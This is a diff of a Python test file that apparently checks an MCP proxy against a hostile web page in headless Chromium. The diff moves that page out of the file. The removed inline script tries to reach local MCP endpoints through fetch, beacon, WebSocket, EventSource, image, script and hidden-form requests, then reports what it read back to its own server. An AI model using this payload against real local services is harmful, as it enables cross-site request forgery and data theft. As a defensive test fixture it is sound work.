@@ -2,6 +2,7 @@
 
 import json
 import os
+import pathlib
 import shutil
 import signal
 import subprocess
@@ -12,51 +13,8 @@ from http_support import ProxyTest, answering, call, chunk, get, json_answer, ou
 from support import PATIENCE, measured
 
 BROWSER = shutil.which("chromium-headless-shell") or shutil.which("chromium")
+PAGE = (pathlib.Path(__file__).parent / "hostile_page.html").read_text()
 SECRET = "the-answer-of-the-server"
-
-# Tries everything that a page may try, and tells its own server what it could read.
-PAGE = """<!doctype html><title>hostile</title><body><script>
-const targets = [HOSTS].map(h => `http://${h}:PORT/mcp`);
-const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call", params: {name: "x"}});
-const seen = [];
-const tried = [];
-async function attempt(name, work) {
-  tried.push(name);
-  try { const got = await Promise.race([work(), new Promise(r => setTimeout(r, 1500, "timeout"))]); seen.push([name, String(got)]); }
-  catch (e) { seen.push([name, "error"]); }
-}
-const element = (tag, fields) => new Promise(done => {
-  const e = Object.assign(document.createElement(tag), fields);
-  e.onload = () => done("load"); e.onerror = () => done("error"); document.body.append(e); });
-async function all() {
-  for (const url of targets) {
-    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
-      for (const mode of ["cors", "no-cors"])
-        await attempt(`fetch ${type} ${mode} ${url}`, async () => {
-          const r = await fetch(url, {method: "POST", mode, body: call, headers: {"Content-Type": type}}); return await r.text(); });
-    await attempt(`get ${url}`, async () => (await fetch(url)).text());
-    await attempt(`get no-cors ${url}`, async () => (await fetch(url, {mode: "no-cors"})).text());
-    await attempt(`delete ${url}`, async () => (await fetch(url, {method: "DELETE"})).text());
-    await attempt(`with session ${url}`, async () => (await fetch(url, {method: "POST", body: call, headers: {"Mcp-Session-Id": "1"}})).text());
-    await attempt(`image ${url}`, () => element("img", {src: url}));
-    await attempt(`script ${url}`, () => element("script", {src: url}));
-    await attempt(`beacon ${url}`, async () => navigator.sendBeacon(url, call));
-    await attempt(`events ${url}`, () => new Promise((ok, no) => {
-      const s = new EventSource(url); s.onmessage = e => ok(e.data); s.onerror = () => { s.close(); no(); }; }));
-    await attempt(`socket ${url}`, () => new Promise((ok, no) => {
-      const s = new WebSocket(url.replace("http", "ws")); s.onopen = () => ok("open"); s.onerror = no; }));
-    await attempt(`form ${url}`, () => new Promise(done => {
-      const frame = document.createElement("iframe"); frame.name = "f" + tried.length; document.body.append(frame);
-      const form = document.createElement("form"); form.method = "POST"; form.action = url; form.target = frame.name;
-      form.enctype = "text/plain"; const input = document.createElement("input"); input.name = call; form.append(input);
-      document.body.append(form); frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (e) { done("hidden"); } };
-      form.submit(); }));
-  }
-  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
-}
-all();
-</script>"""
-
 
 class HostilePage(ProxyTest):
     def setUp(self):
